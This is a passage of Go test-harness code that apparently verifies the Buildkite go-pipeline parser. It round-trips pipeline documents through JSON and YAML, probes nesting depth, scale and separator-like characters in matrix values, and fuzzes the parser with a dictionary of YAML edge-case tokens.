						pick := r.IntN(len(ms.Adjs))
						if manyAdj && r.IntN(2) == 0 {
							pick = len(ms.Adjs) - 1 - r.IntN(3) // the tail of a long list
						}
						for k, v := range ms.Adjs[pick].With {
							perm[k] = v
						}
						break
					}
					fallthrough
				default:
					perm = randTuple()
				}
				var step *pipeline.CommandStep
				how := "literal"
				if r.IntN(4) == 0 {
					var err error
					var text string
					step, text, err = c11ParsedStep(ms, r)
					if err != nil {
						c.Violation(run.CaseID("rnd", i), map[string]any{"what": "matrix document not parsed as a command step: " + err.Error(), "document": text, "matrix": ms})
						return
					}
					how = "Parse"
					c.Count("via_parse", 1)
				} else {
					step = c11Step(ms)
				}
				c11Eval(c, run.CaseID("rnd", i), ms, perm, step, how, t%4 == 0)
			}
			// One Matrix object (and its MatrixAdjustment objects) edited in place between validations: the decision
			// follows the matrix as it is now, whatever was validated on the same objects before.
			if i%4 == 0 {
				cur := refmodel.MatrixSpec{Dims: append([]string{}, ms.Dims...), Values: map[string][]string{}}
				for d, vs := range ms.Values {
					cur.Values[d] = append([]string{}, vs...)
				}
				for _, a := range ms.Adjs {
					w := map[string]string{}
					for k, v := range a.With {
						w[k] = v
					}
					cur.Adjs = append(cur.Adjs, refmodel.AdjSpec{With: w, Skip: a.Skip})
				}
				mx := buildMatrix(cur)
				tuple := func() map[string]string {
					t := map[string]string{}
					for _, d := range cur.Dims {
						if vs := cur.Values[d]; len(vs) > 0 && r.IntN(4) != 0 {
							t[d] = vs[r.IntN(len(vs))]
						} else {
							t[d] = pool[r.IntN(len(pool))]
						}
					}
					return t
				}
				evalNow := func() {
					for t := 0; t < 3; t++ {
						perm := tuple()
						if len(cur.Adjs) > 0 && r.IntN(2) == 0 {
							perm = map[string]string{}
							for k, v := range cur.Adjs[r.IntN(len(cur.Adjs))].With {
								perm[k] = v
							}
						}
						c11Eval(c, run.CaseID("rnd", i), cur, perm, &pipeline.CommandStep{Command: "no tokens", Label: "l", Key: "k", Matrix: mx}, "literal, same objects edited in place between validations", false)
					}
				}
				evalNow()
				for e := 0; e < 4; e++ {
					switch op := r.IntN(6); {
					case op == 0: // a new dimension: every existing adjustment now has the wrong set of dimensions
						d := fmt.Sprintf("new%d", e)
						cur.Dims = append(cur.Dims, d)
						cur.Values[d] = []string{"x", "y"}
						mx.Setup[d] = []string{"x", "y"}
					case op == 1 && len(cur.Dims) > 0 && cur.Dims[0] != "": // a dimension renamed
						j := r.IntN(len(cur.Dims))
						old, nw := cur.Dims[j], fmt.Sprintf("ren%d", e)
						cur.Dims[j] = nw
						cur.Values[nw] = cur.Values[old]
						delete(cur.Values, old)
						mx.Setup[nw] = mx.Setup[old]
						delete(mx.Setup, old)
					case op == 2 && len(cur.Adjs) > 0: // an adjustment loses a dimension or gains an unknown one
						j := r.IntN(len(cur.Adjs))
						if r.IntN(2) == 0 && len(cur.Dims) > 0 {
							d := cur.Dims[r.IntN(len(cur.Dims))]
							delete(cur.Adjs[j].With, d)
							delete(mx.Adjustments[j].With, d)
						} else {
							cur.Adjs[j].With["q"] = "x"
							mx.Adjustments[j].With["q"] = "x"
						}
					case op == 3 && len(cur.Adjs) > 0: // an adjustment is repaired to the current dimensions
						j := r.IntN(len(cur.Adjs))
						w := tuple()
						cur.Adjs[j].With = w
						mx.Adjustments[j].With = pipeline.MatrixAdjustmentWith{}
						for k, v := range w {
							mx.Adjustments[j].With[k] = v
						}
					case op == 4 && len(cur.Adjs) > 0: // skip toggled
						j := r.IntN(len(cur.Adjs))
						sk := skips[r.IntN(len(skips))]
						cur.Adjs[j].Skip = sk
						mx.Adjustments[j].Skip = sk
					default: // a value added to a dimension
						if len(cur.Dims) > 0 {
							d := cur.Dims[r.IntN(len(cur.Dims))]
							cur.Values[d] = append(cur.Values[d], fmt.Sprintf("added%d", e))
							mx.Setup[d] = append(mx.Setup[d], fmt.Sprintf("added%d", e))
						}
					}
					c.Count("matrix_objects_edited_in_place_and_revalidated", 1)
					evalNow()
				}
			}
		})
	})
	// Phase 3: values that contain characters a joined-up comparison might use as a separator: a permutation whose
	// values, written one after the other, read like an adjustment's is still a different tuple
	c.Phase("separator", func() {
		seps := []string{",", "|", ":", ";", "/", " ", "=", "\x00", "\x1f", "\n", "::", "-", "."}
		c.Parallel("sep", len(seps)*len(skips)*4, func(i int, r *rand.Rand) {
			sep := seps[i%len(seps)]
			skip := skips[(i/len(seps))%len(skips)]
			variant := i / (len(seps) * len(skips))
			dims := [][]string{{"arch", "os"}, {"a", "b", "c"}}[variant%2]
			ms := refmodel.MatrixSpec{Dims: dims, Values: map[string][]string{}}
			for _, d := range dims {
				ms.Values[d] = []string{"p", "q"}
			}
			adj := map[string]string{}
			perm := map[string]string{}
			for j, d := range dims {
				adj[d], perm[d] = "v", "v"
				if j == 0 {
					adj[d], perm[d] = "p", "p"+sep+"q"
				}
				if j == 1 {
					adj[d], perm[d] = "q"+sep+"r", "r"
				}
			}
			if variant >= 2 {
				adj, perm = perm, adj // the other direction: the adjustment holds the joined value in its first dimension
			}
			ms.Adjs = []refmodel.AdjSpec{{With: adj, Skip: skip}}
			id := run.CaseID("sep", i)
			c11Eval(c, id, ms, perm, c11Step(ms), "literal, separator-like characters inside values", true)
			// and a setup combination next to a skipping adjustment it only resembles when joined up
			ms2 := refmodel.MatrixSpec{Dims: dims, Values: map[string][]string{}, Adjs: []refmodel.AdjSpec{{With: adj, Skip: true}}}
			for _, d := range dims {
				ms2.Values[d] = []string{perm[d], "other"}
			}
			c11Eval(c, id, ms2, perm, c11Step(ms2), "literal, separator-like characters inside values", false)
			c.Count("separator_cases", 2)
		})
	})
	c.Finish("exploration",
		"phase 3: two- and three-dimension matrices whose values contain separator-like characters, with a permutation that equals an adjustment only when the values are written one after the other; phase 1 enumerates every matrix with dimensions in {anonymous; a; a,b; a,b,c}, value lists over subsets of {x,y} (incl. empty), 0-2 adjustments (0-1 for three dimensions; quick tier 0-1 for two) drawn from all tuples over {x,y,z}, three malformed shapes and four skip kinds, against every permutation over every subset of the dimensions plus an unknown one with values {x,y,z}; phase 2 draws random larger matrices (up to 5 dimensions, repeated and conflicting adjustments) and permutations; a sample is built through Parse instead of literally. distinct_nontrivial counts distinct matrices (phase 1) and distinct (dims, adjustments, anonymous) shapes (phase 2)",
		map[string]any{"exhaustive": false},
		[]string{"dimensions whose value list is null are not generated (undefined dimension)", "which error is returned is not checked"})
}
