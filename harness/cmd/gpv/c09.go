package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/warning"

	"verif/doc"
	"verif/gen"
	"verif/refmodel"
	"verif/run"
)

func init() { register("C09", checkC09) }

func c09Opts(i int) gen.PipeOpts {
	o := gen.PipeOpts{
		Str:        gen.StringOpts{Tricky: true, Interp: true, LeadingWS: mix(i, 1, 9) == 0},
		Unknown:    mix(i, 2, 4) == 0,
		Signature:  true,
		Coincide:   true,
		Sharing:    mix(i, 3, 6) == 1,
		TrickyKeys: mix(i, 4, 2) == 0,
		BigMaps:    mix(i, 5, 5) == 0,
	}.NoSweep()
	switch i % 7 {
	case 0:
		o.SweepMatrix = i / 7
	case 1:
		o.SweepCache = i / 7
	case 2:
		o.SweepPlugins = i / 7
	case 3:
		o.SweepCmdForms = i / 7
	}
	return o
}

func checkC09(c *run.Ctx) {
	c09Witnesses(c)
	n := c.N(10000, 300000)
	reps := c.N(6, 10)
	c.Parallel("doc", n, func(i int, r *rand.Rand) {
		d, err := gen.Pipeline(r, c09Opts(i))
		if err != nil {
			c.Count("generator_errors", 1)
			return
		}
		id := run.CaseID("doc", i)
		rs := renderings(d, r, 1, func(style, why string) { c.Count("renderings_discarded_generator_invalid", 1) })
		rd := rs[len(rs)-1]
		if mix(i, 6, 3) == 0 {
			rd = rs[0]
		}
		viol := func(what string, extra map[string]any) {
			m := map[string]any{"what": what, "style": rd.Style, "document": clip(rd.Text, 6000)}
			for k, v := range extra {
				m[k] = v
			}
			c.Violation(id, m)
		}
		p, perr := parseText(rd.Text)
		c.Eval(1)
		if perr != nil && !warning.Is(perr) {
			viol("well-formed document rejected: "+perr.Error(), nil)
			return
		}
		first := modelToDoc(p)
		c.Feature(d.FeatureVector())

		var jb []byte
		legs := func(stage string, first *doc.Node) bool {
			// Determinism: repeated marshalling is byte-identical.
			var err error
			jb, err = safeJSONMarshal(p)
			if err != nil {
				viol(stage+"json.Marshal: "+err.Error(), nil)
				return false
			}
			for k := 1; k < reps; k++ {
				jb2, err := safeJSONMarshal(p)
				if err != nil || !bytes.Equal(jb, jb2) {
					viol(stage+"two JSON marshals of one pipeline differ", map[string]any{"a": clip(string(jb), 3000), "b": clip(string(jb2), 3000)})
					return false
				}
			}
			c.Count("determinism_json_marshals", reps)
			jn, err := doc.FromJSON(jb)
			if err != nil {
				viol(stage+"JSON output unreadable: "+err.Error(), nil)
				return false
			}
			tricky := 0
			jn.Walk(func(x *doc.Node) {
				if x.Kind == doc.KStr && !doc.PlainSafe(x.Str) {
					tricky++
				}
			})

			// JSON leg.
			p2, err2 := parseText(string(jb))
			if err2 != nil && !warning.Is(err2) {
				viol(stage+"JSON marshalling is rejected on re-parse: "+err2.Error(), map[string]any{"json": clip(string(jb), 6000)})
				return false
			}
			p2doc := modelToDoc(p2)
			if first != nil {
				if diff := doc.Equal(first, p2doc, modelEq); diff != "" {
					viol(stage+"re-parsing the JSON marshalling gives a different pipeline: "+diff, map[string]any{"json": clip(string(jb), 6000)})
					return false
				}
			}
			c.Count("json_legs", 1)
			c.Count("tricky_strings_through_json_leg", tricky)

			// YAML leg.
			if leadingWSMultiline(jn) {
				c.Count("yaml_legs_skipped_leading_ws_multiline", 1)
			} else {
				yb, err := safeYAMLMarshal(p)
				if err != nil {
					viol(stage+"yaml.Marshal: "+err.Error(), nil)
					return false
				}
				for k := 1; k < reps; k++ {
					yb2, err := safeYAMLMarshal(p)
					if err != nil || !bytes.Equal(yb, yb2) {
						viol(stage+"two YAML marshals of one pipeline differ", map[string]any{"a": clip(string(yb), 3000), "b": clip(string(yb2), 3000)})
						return false
					}
				}
				c.Count("determinism_yaml_marshals", reps)
				p3, err3 := parseText(string(yb))
				if err3 != nil && !warning.Is(err3) {
					viol(stage+"YAML marshalling is rejected on re-parse: "+err3.Error(), map[string]any{"yaml": clip(string(yb), 6000)})
					return false
				}
				if first != nil {
					if diff := doc.Equal(first, modelToDoc(p3), modelEq); diff != "" {
						viol(stage+"re-parsing the YAML marshalling gives a different pipeline: "+diff, map[string]any{"yaml": clip(string(yb), 6000)})
						return false
					}
				} else if diff := doc.Equal(p2doc, modelToDoc(p3), modelEq); diff != "" {
					viol(stage+"the JSON and the YAML marshalling of one pipeline re-parse to different pipelines: "+diff, map[string]any{"json": clip(string(jb), 6000), "yaml": clip(string(yb), 6000)})
					return false
				}
				c.Count("yaml_legs", 1)
				c.Count("tricky_strings_through_yaml_leg", tricky)
			}

			return true
		}
		if !legs("", first) {
			return
		}
		// The marshalling describes the pipeline as it is now: after the library's own interpolation has changed
		// it (env block renamed and rewritten in place, strings and keys everywhere else replaced), repeated
		// marshalling is again byte-identical and both formats again carry the same data - whatever was marshalled
		// from the same object before. (The interpolated object need not be in normal form - a typed field emptied
		// by expansion lets a lower-priority spelling kept among the unknown fields take its place on re-parse - so
		// the two re-parsed pipelines are compared with each other, not with the object.)
		if mix(i, 7, 3) == 0 {
			var ierr error
			if pi := run.Guard(func() {
				ierr = p.Interpolate(refmodel.NewEnv(false, map[string]string{"X": "xv", "Y": "y y", "a": "1"}), false)
			}); pi == nil && ierr == nil && c09HasFalsySkip(p) {
				// known finding K1 reached through interpolation: a skip string that expands to nothing is dropped by
				// the JSON form and kept by the YAML form; the class is excluded here as it is in the generator
				c.Count("second_round_trips_skipped_falsy_skip_after_interpolation_K1", 1)
			} else if pi == nil && ierr == nil {
				c.Count("second_round_trips_after_interpolation", 1)
				if !legs("after interpolating the pipeline that was marshalled before: ", nil) {
					return
				}
			} else {
				c.Count("second_round_trips_skipped_interpolation_failed", 1)
			}
			return // the stand-alone decoders are exercised on pipelines in normal form (the other two thirds)
		}

		// Stand-alone decoders.
		failed := false
		allCommandSteps(p.Steps, func(path string, s *pipeline.CommandStep) {
			if failed {
				return
			}
			sb, err := safeJSONMarshal(s)
			if err != nil {
				viol("json.Marshal(step): "+err.Error(), nil)
				failed = true
				return
			}
			s2 := new(pipeline.CommandStep)
			if err := s2.UnmarshalJSON(sb); err != nil {
				viol("CommandStep.UnmarshalJSON rejects the step's own JSON: "+err.Error(), map[string]any{"step_json": clip(string(sb), 4000), "step": path})
				failed = true
				return
			}
			if diff := doc.Equal(modelToDoc(s), modelToDoc(s2), modelEq); diff != "" {
				viol("CommandStep.UnmarshalJSON(json.Marshal(step)) differs from the step: "+diff, map[string]any{"step_json": clip(string(sb), 4000), "step": path})
				failed = true
				return
			}
			c.Count("standalone_command_steps", 1)
			if len(s.Plugins) > 0 {
				pb, err := safeJSONMarshal(s.Plugins)
				if err != nil {
					viol("json.Marshal(plugins): "+err.Error(), nil)
					failed = true
					return
				}
				var pl pipeline.Plugins
				if err := pl.UnmarshalJSON(pb); err != nil {
					viol("Plugins.UnmarshalJSON rejects the plugins' own JSON: "+err.Error(), map[string]any{"plugins_json": clip(string(pb), 4000)})
					failed = true
					return
				}
				if diff := doc.Equal(modelToDoc(s.Plugins), modelToDoc(pl), modelEq); diff != "" {
					viol("Plugins.UnmarshalJSON(json.Marshal(plugins)) differs: "+diff, map[string]any{"plugins_json": clip(string(pb), 4000)})
					failed = true
					return
				}
				c.Count("standalone_plugin_lists", 1)
			}
			if s.Matrix != nil {
				if s.Matrix.IsEmpty() {
					c.Count("shape_matrix_empty", 1)
				}
			}
			if s.Cache != nil && s.Cache.Disabled {
				c.Count("shape_cache_disabled", 1)
			}
		})
		if failed {
			return
		}
		if c.WantSample() && d.NCommand > 0 {
			c.Sample(map[string]any{"document": clip(rd.Text, 1200), "json": clip(string(jb), 1200)})
		}
	})
	// Scale: the normal form is longer than the document it came from (plugin sources written in full, aliases
	// expanded, block style): documents below 1 MiB whose marshalling runs to several MiB, and documents beyond
	// 1 MiB themselves, are fixpoints like the small ones.
	c.Phase("scale", func() {
		type big struct {
			name string
			text string
		}
		var docs []big
		for _, n := range []int{2000, 11000, 40000, 120000}[:c.N(2, 4)] {
			var b strings.Builder
			b.WriteString(`{"steps":[`)
			for i := 0; i < n; i++ {
				if i > 0 {
					b.WriteByte(',')
				}
				fmt.Fprintf(&b, `{"command":"echo step %d x x x","label":"l%d","extra_%d":%d,"plugins":["docker#v%d"]}`, i, i, i%7, i, i%9)
			}
			b.WriteString("]}")
			docs = append(docs, big{fmt.Sprintf("%d steps with short plugin sources, compact JSON", n), b.String()})
		}
		for _, n := range []int{500, 4000, 30000}[:c.N(2, 3)] {
			var b strings.Builder
			b.WriteString("shared: &cfg\n")
			for k := 0; k < 12; k++ {
				fmt.Fprintf(&b, "  setting_%d: value of setting number %d\n", k, k)
			}
			b.WriteString("steps:\n")
			for i := 0; i < n; i++ {
				fmt.Fprintf(&b, "  - command: make %d\n    plugins:\n      - cache#v1: *cfg\n", i)
			}
			docs = append(docs, big{fmt.Sprintf("%d steps each holding an alias of one anchored mapping, YAML", n), b.String()})
		}
		c.Parallel("scale", len(docs)*2, func(i int, r *rand.Rand) {
			d := docs[i/2]
			leg := []string{"json", "yaml"}[i%2]
			bad, msg := c09Roundtrip(d.text, leg)
			c.Eval(1)
			c.Feature("scale", i)
			c.Count("scale_round_trips", 1)
			c.Max("largest_source_document_bytes", int64(len(d.text)))
			if bad {
				c.Violation(run.CaseID("scale", i), map[string]any{"what": fmt.Sprintf("%s (%d bytes), %s leg: %s", d.name, len(d.text), leg, msg), "document_head": clip(d.text, 600)})
			}
		})
	})
	// Nesting depth: the normal form sits one level deeper than the legacy spellings (a bare step list becomes
	// `steps`, a bare-string plugin a one-entry object, a cache path a mapping), so whatever depth the first parse
	// accepts, its own output has to be accepted again - at every depth, not only at the shallow ones.
	c.Phase("depth", func() {
		maxDepth := c.N(300, 1500)
		c.Parallel("depth", maxDepth, func(i int, r *rand.Rand) {
			depth := i + 1
			var v *doc.Node = doc.S("leaf")
			for k := 0; k < depth; k++ {
				if (k+i)%3 == 0 {
					v = doc.M(doc.P("k", v))
				} else {
					v = doc.L(v)
				}
			}
			step := doc.M(doc.P("command", doc.S("c")), doc.P("deep", v))
			for variant, root := range []*doc.Node{
				doc.L(step), // legacy: the pipeline is a bare list of steps
				doc.M(doc.P("steps", doc.L(step))),
				doc.L(doc.M(doc.P("command", doc.S("c")), doc.P("plugins", doc.L(doc.S("docker#v1"), doc.M(doc.P("p#v1", doc.M(doc.P("deep", v)))))))),
				doc.M(doc.P("steps", doc.L(doc.M(doc.P("group", doc.S("g")), doc.P("steps", doc.L(step)))))),
			} {
				text := string(doc.ToJSON(root))
				id := run.CaseID("depth", i)
				if _, err := parseText(text); err != nil && !warning.Is(err) {
					c.Count("depth_documents_refused_at_first_parse", 1) // refusing a deep document outright is not a fixpoint matter
					continue
				}
				c.Eval(1)
				for _, leg := range []string{"json", "yaml"} {
					if fails, what := c09Roundtrip(text, leg); fails {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("a document nested %d levels deep (variant %d) is accepted, but its own %s marshalling is not a fixpoint: %s", depth, variant, leg, what), "depth": depth})
						return
					}
				}
				c.Count("depth_documents_roundtripped", 1)
				c.Max("max_depth_roundtripped", int64(depth))
			}
		})
	})
	c.Finish("exploration",
		"a depth sweep (documents nested 1-300 / 1-1500 levels below a step, in the legacy bare-list form, the mapping form, inside a plugin config next to a bare-string plugin, and inside a group) checks that whatever the first parse accepts, its own output is accepted again and equal; grammar-generated pipeline documents as in C03 (tricky strings in values and keys, all shorthands, big Go maps, aliases/merges) are parsed; the JSON and the YAML marshalling are re-parsed and the object models compared structurally (dynamic step types, fields, ordered maps in order) through a reflective converter that is independent of the marshalling code; every command step goes through CommandStep.UnmarshalJSON(json.Marshal(step)) and every plugin list through Plugins.UnmarshalJSON; each pipeline is marshalled 6-10 times per format and the bytes compared. distinct_nontrivial counts distinct feature vectors",
		nil,
		[]string{"equivalences: numbers by value, timestamp = its RFC 3339 string, typed container fields nil = empty, empty plugin config = null", "YAML leg skipped for data with multi-line strings that begin with whitespace", "excluded input classes: K1 falsy skip, K2 empty key/label next to an alias, K3 non-finite floats, K4 the key `<<`"})
	_ = fmt.Sprint
}

// c09Witnesses replays listed findings for C09.
func c09Witnesses(c *run.Ctx) {
	for _, f := range c.FindingsFor() {
		var w struct {
			Document string `json:"document"`
			Leg      string `json:"leg"`
		}
		if len(f.Witness) == 0 || json.Unmarshal(f.Witness, &w) != nil || w.Document == "" {
			continue
		}
		fails, what := c09Roundtrip(w.Document, w.Leg)
		c.Witness(f, fails, fmt.Sprintf("%s leg of %q: %s", w.Leg, w.Document, what))
	}
}

// c09HasFalsySkip reports whether some matrix adjustment carries a skip value that is present but falsy ("", false,
// 0): the input class of known finding K1.
func c09HasFalsySkip(p *pipeline.Pipeline) bool {
	found := false
	allCommandSteps(p.Steps, func(_ string, s *pipeline.CommandStep) {
		if s.Matrix == nil {
			return
		}
		for _, a := range s.Matrix.Adjustments {
			if a == nil {
				continue
			}
			switch v := a.Skip.(type) {
			case string:
				found = found || v == ""
			case bool:
				found = found || !v
			case int:
				found = found || v == 0
			case int64:
				found = found || v == 0
			case uint64:
				found = found || v == 0
			case float64:
				found = found || v == 0
			}
		}
	})
	return found
}

// c09Roundtrip reports whether parse -> marshal(leg) -> parse is not a fixpoint.
func c09Roundtrip(text, leg string) (bool, string) {
	p, err := parseText(text)
	if err != nil && !warning.Is(err) {
		return true, "document rejected: " + err.Error()
	}
	var out []byte
	if leg == "yaml" {
		out, err = safeYAMLMarshal(p)
	} else {
		out, err = safeJSONMarshal(p)
	}
	if err != nil {
		return true, "marshal fails: " + err.Error()
	}
	p2, err := parseText(string(out))
	if err != nil && !warning.Is(err) {
		return true, "re-parse fails: " + err.Error()
	}
	if diff := doc.Equal(modelToDoc(p), modelToDoc(p2), modelEq); diff != "" {
		return true, "re-parsed pipeline differs: " + diff
	}
	return false, "fixpoint"
}
