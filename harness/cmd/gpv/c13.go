package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/warning"
	"gopkg.in/yaml.v3"

	"verif/doc"
	"verif/gen"
	"verif/run"
)

func init() { register("C13", checkC13) }

const c13MaxExpansion = 200000

// expansionSize computes the number of nodes the alias expansion of a YAML
// node graph has (memoised); cyclic reports an alias cycle.
func expansionSize(n *yaml.Node, memo map[*yaml.Node]int, onPath map[*yaml.Node]bool) (size int, cyclic bool) {
	if n == nil {
		return 0, false
	}
	if n.Kind == yaml.AliasNode {
		return expansionSize(n.Alias, memo, onPath)
	}
	if s, ok := memo[n]; ok {
		return s, false
	}
	if onPath[n] {
		return 0, true
	}
	onPath[n] = true
	defer delete(onPath, n)
	size = 1
	for _, ch := range n.Content {
		s, cyc := expansionSize(ch, memo, onPath)
		if cyc {
			return 0, true
		}
		size += s
		if size > 4*c13MaxExpansion {
			break
		}
	}
	memo[n] = size
	return size, false
}

// warningLeaves counts the leaf errors of a warning tree.
func warningLeaves(err error) int {
	if err == nil {
		return 0
	}
	switch t := err.(type) {
	case interface{ Unwrap() []error }:
		n := 0
		for _, e := range t.Unwrap() {
			n += warningLeaves(e)
		}
		if n == 0 {
			return 1
		}
		return n
	case interface{ Unwrap() error }:
		if in := t.Unwrap(); in != nil {
			return warningLeaves(in)
		}
	}
	return 1
}

func hasNonFinite(n *doc.Node) bool {
	found := false
	n.Walk(func(x *doc.Node) {
		if x.Kind == doc.KFloat && (math.IsInf(x.Float, 0) || math.IsNaN(x.Float)) {
			found = true
		}
	})
	return found
}

func hasNonStringKey(n *doc.Node) bool {
	found := false
	n.Walk(func(x *doc.Node) {
		for _, p := range x.Map {
			if strings.HasPrefix(p.Key, doc.NonStringKeyPrefix) {
				found = true
			}
		}
	})
	return found
}

type c13Outcome struct {
	class    string // hard-error | warning | clean | dropped
	unknowns int
}

// c13Check runs every C13 monitor on one input.
func c13Check(c *run.Ctx, id string, data []byte, gname string) (out c13Outcome, ok bool) {
	return c13CheckCap(c, id, data, gname, 64*1024, c13MaxExpansion)
}

// c13CheckCap is c13Check with the workload's own bounds (input bytes, expanded nodes) as parameters: the mutation
// and fuzzing workloads keep inputs small so that they run many, the scale phase lifts both bounds.
func c13CheckCap(c *run.Ctx, id string, data []byte, gname string, maxBytes, maxExpansion int) (out c13Outcome, ok bool) {
	viol := func(what string, extra map[string]any) (c13Outcome, bool) {
		m := map[string]any{"what": what, "generator": gname, "input": clip(string(data), 8000), "input_hex_prefix": fmt.Sprintf("%x", data[:min(len(data), 64)])}
		for k, v := range extra {
			m[k] = v
		}
		c.Violation(id, m)
		return out, false
	}
	if len(data) > maxBytes {
		return c13Outcome{class: "dropped"}, true
	}
	// Independent view of the input: yaml.Node, expansion bound.
	var node yaml.Node
	nodeErr := yaml.Unmarshal(data, &node)
	var plain *doc.Node
	if nodeErr == nil {
		size, cyc := expansionSize(&node, map[*yaml.Node]int{}, map[*yaml.Node]bool{})
		if !cyc && size > maxExpansion {
			c.Count("inputs_dropped_by_expansion_bound", 1)
			return c13Outcome{class: "dropped"}, true
		}
		if !cyc {
			if g, err := doc.FromYAMLInputNode(&node); err == nil {
				if pl, err := doc.ResolveMerges(g, 4*maxExpansion); err == nil {
					plain = pl
				}
			}
		}
	}
	t0 := time.Now()
	var p *pipeline.Pipeline
	var perr error
	if pi := run.Guard(func() { p, perr = pipeline.Parse(bytes.NewReader(data)) }); pi != nil {
		return viol("Parse panicked: "+pi.Value, map[string]any{"stack": pi.Stack})
	}
	el := time.Since(t0)
	c.Max("max_parse_micros", el.Microseconds())
	if el > 10*time.Second {
		slow := 0
		for k := 0; k < 3; k++ {
			t1 := time.Now()
			_, _ = pipeline.Parse(bytes.NewReader(data))
			if time.Since(t1) > 10*time.Second {
				slow++
			}
		}
		if slow == 3 {
			return viol("Parse needed more than 10 s four times on an input within the size and expansion bounds", nil)
		}
		c.Count("inconclusive_slow_once", 1)
	}
	if perr != nil && !warning.Is(perr) {
		return c13Outcome{class: "hard-error"}, true
	}
	out.class = "clean"
	if perr != nil {
		out.class = "warning"
	}
	// Usable result.
	if p == nil {
		return viol("usable result (nil error or warning) but the pipeline is nil", nil)
	}
	if p.Steps == nil {
		return viol("usable result but Steps is nil", nil)
	}
	// structure clauses
	unknowns := 0
	var structural string
	var walk func(steps pipeline.Steps, in *doc.Node, path string)
	walk = func(steps pipeline.Steps, in *doc.Node, path string) {
		if structural != "" {
			return
		}
		if in != nil {
			want := 0
			if in.Kind == doc.KSeq {
				want = len(in.Seq)
			} else if in.Kind != doc.KNull {
				in = nil // not a sequence: count clause not applicable
			}
			if in != nil && len(steps) != want {
				structural = fmt.Sprintf("%s: %d steps parsed, the input step sequence has %d entries", path, len(steps), want)
				return
			}
		}
		for i, s := range steps {
			sp := fmt.Sprintf("%s[%d]", path, i)
			if s == nil || isNilStep(s) {
				structural = sp + ": nil step"
				return
			}
			var entry *doc.Node
			if in != nil && in.Kind == doc.KSeq {
				entry = in.Seq[i]
			}
			switch t := s.(type) {
			case *pipeline.UnknownStep:
				unknowns++
				if entry != nil && !hasNonStringKey(entry) {
					if diff := doc.Equal(entry, anyToDoc(t.Contents), doc.EqOpts{Ordered: true}); diff != "" {
						structural = sp + ": unknown step is not the input entry verbatim: " + diff
						return
					}
					c.Count("unknown_steps_compared_verbatim", 1)
				}
			case *pipeline.GroupStep:
				if t.Steps == nil {
					structural = sp + ": group with nil Steps"
					return
				}
				var sub *doc.Node
				if entry != nil && entry.Kind == doc.KMap {
					if sv, has := entry.Get("steps"); has {
						sub = sv
					} else {
						sub = doc.Null()
					}
				}
				walk(t.Steps, sub, sp+".steps")
			}
		}
	}
	var inSteps *doc.Node
	if plain != nil {
		switch plain.Kind {
		case doc.KSeq:
			inSteps = plain
		case doc.KMap:
			if sv, has := plain.Get("steps"); has {
				inSteps = sv
			} else {
				inSteps = doc.Null()
			}
		}
	}
	walk(p.Steps, inSteps, "steps")
	if structural != "" {
		return viol(structural, map[string]any{"warning": fmt.Sprint(perr)})
	}
	if inSteps != nil {
		c.Count("step_sequences_compared", 1)
	}
	out.unknowns = unknowns
	if unknowns > 0 {
		if perr == nil {
			return viol(fmt.Sprintf("%d unknown-step fallbacks but no warning", unknowns), nil)
		}
		if l := warningLeaves(perr); l < unknowns {
			return viol(fmt.Sprintf("%d unknown-step fallbacks but the warning reports only %d causes", unknowns, l), map[string]any{"warning": perr.Error()})
		}
		c.Count("unknown_step_fallbacks_seen", unknowns)
	}
	// marshalling a usable result succeeds
	jb, jerr := safeJSONMarshal(p)
	var jn *doc.Node
	if jerr != nil {
		nonFinite := plain != nil && hasNonFinite(plain)
		if plain == nil {
			nonFinite = strings.Contains(jerr.Error(), "unsupported value")
		}
		if nonFinite && strings.Contains(jerr.Error(), "unsupported value") && c.Listed("K3") {
			c.KnownHit("K3")
		} else {
			return viol("json.Marshal of a usable result fails: "+jerr.Error(), nil)
		}
	} else {
		jn, _ = doc.FromJSON(jb)
		c.Count("json_marshal_ok", 1)
	}
	if _, yerr := safeYAMLMarshal(p); yerr != nil {
		lead := (jn != nil && leadingWSMultiline(jn)) || (jn == nil && plain != nil && leadingWSMultiline(plain))
		if lead && c.Listed("K5") {
			c.KnownHit("K5")
		} else {
			return viol("yaml.Marshal of a usable result fails: "+yerr.Error(), map[string]any{"json": clip(string(jb), 3000)})
		}
	} else {
		c.Count("yaml_marshal_ok", 1)
	}
	return out, true
}

func isNilStep(s pipeline.Step) bool {
	switch t := s.(type) {
	case *pipeline.CommandStep:
		return t == nil
	case *pipeline.WaitStep:
		return t == nil
	case *pipeline.InputStep:
		return t == nil
	case *pipeline.TriggerStep:
		return t == nil
	case *pipeline.GroupStep:
		return t == nil
	case *pipeline.UnknownStep:
		return t == nil
	}
	return false
}

func loadCorpus(c *run.Ctx) [][]byte {
	dir := os.Getenv("GPV_VERIF_DIR")
	if dir == "" {
		dir = ".."
	}
	files, _ := filepath.Glob(filepath.Join(dir, "corpus", "*"))
	sort.Strings(files)
	var out [][]byte
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err == nil && len(b) > 0 {
			out = append(out, b)
		}
	}
	if len(out) == 0 {
		fmt.Fprintln(os.Stderr, "INFRA: corpus not found under", dir)
		os.Exit(3)
	}
	return out
}

var c13Dict = []string{
	"&a ", "*a", "<<: ", "<<: *a", "- ", ": ", "? ", "[", "]", "{", "}", ",", "#", "|", ">", "|-", "!!str ", "!!int ", "!!binary ", "!!map", "!custom ", "---\n", "...\n", "%YAML 1.2\n",
	"9223372036854775808: x", "18446744073709551615: x", "0xFFFFFFFFFFFFFFFF: 1", "18446744073709551616: 1", "-9223372036854775809: 1", "0755", "-0", "2147483648", "9007199254740993", "1e400", "- 0x8000000000000000: k",
	"\n9223372036854775808:\n  - a\n", "? 18446744073709551615\n: v\n", "1e400: k", ".inf: k", ".nan: k", "-.inf: k", "~: k", "null: k", "true: k", "2002-08-15: k", "!!binary aGk=: k", "x: !!binary /w==", "!!binary gICA", "{b: !!binary //79}",
	"null", "~", "true", ".inf", ".nan", "0x1f", "1e999", "2002-08-15", "\"", "'", "\\", "\t", "\n", "\n  ", "\n    - ", "steps:", "steps: ", "command:", "commands:", "plugins:", "type: ", "wait", "block",
